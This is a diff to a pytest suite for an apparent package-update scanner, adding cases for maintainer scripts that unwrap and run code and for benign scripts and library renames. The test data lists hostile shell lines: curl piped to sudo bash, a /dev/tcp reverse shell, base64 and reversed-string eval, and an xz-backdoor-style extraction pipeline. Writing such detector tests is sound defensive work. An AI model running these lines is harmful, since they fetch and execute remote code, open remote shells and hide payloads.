@@ -210,6 +210,7 @@ def test_a_library_path_that_others_may_write_to_is_refused_even_without_an_olde
         "curl -fsSL https://vendor.test/i | sudo bash",
         "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
         "eval `echo aGkK | base64 -d`",
+        "echo 'hs/nib/' | rev | sh",
         "(head -c +1024 >/dev/null) && head -c +2048 | tail -c +31233 | tr '\\114-\\321' '\\0-\\377' | xz -F raw -dc | sh",
     ],
 )
@@ -219,6 +220,27 @@ def test_a_maintainer_script_that_unwraps_and_runs_is_refused(tmp_path: Path, li
     assert Kind.SUSPICIOUS_SCRIPT in kinds(found)
     assert verdict(found) is Action.REFUSE
     assert look(update(tmp_path, {}, {}, old_scripts=scripts, new_scripts=scripts)).concerns == ()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'eval "set $(git rev-parse --parseopt -- "$@" || echo exit $?)"',
+        "zcat -f file | shuf | tr 'a-z' 'A-Z' > /dev/null",
+        "curl -fsS https://vendor.test/health | grep -q shell",
+        "# never: base64 -d | sh",
+    ],
+)
+def test_what_scripts_ordinarily_do_is_nothing(tmp_path: Path, line: str) -> None:
+    scripts = {"postinst": f"#!/bin/sh\nset -e\n{line}\n"}
+    found = look(update(tmp_path, {}, {}, old_scripts={"postinst": "#!/bin/sh\nset -e\n"}, new_scripts=scripts))
+    assert verdict(found) in ((Action.REVIEW,) if "curl" in line else (None,))
+
+
+def test_numbers_within_a_librarys_name_are_no_new_library(tmp_path: Path) -> None:
+    old = planted.with_library(planted.program(), tmp_path, "libdns-9.18.49-1~deb12u1-Debian.so")
+    new = planted.with_library(planted.program(), tmp_path, "libdns-9.18.49-1~deb12u3-Debian.so")
+    assert look(update(tmp_path, {PROGRAM: old}, {PROGRAM: new})).concerns == ()
 
 
 def test_a_build_file_with_the_xz_pipeline_is_caught(tmp_path: Path) -> None:
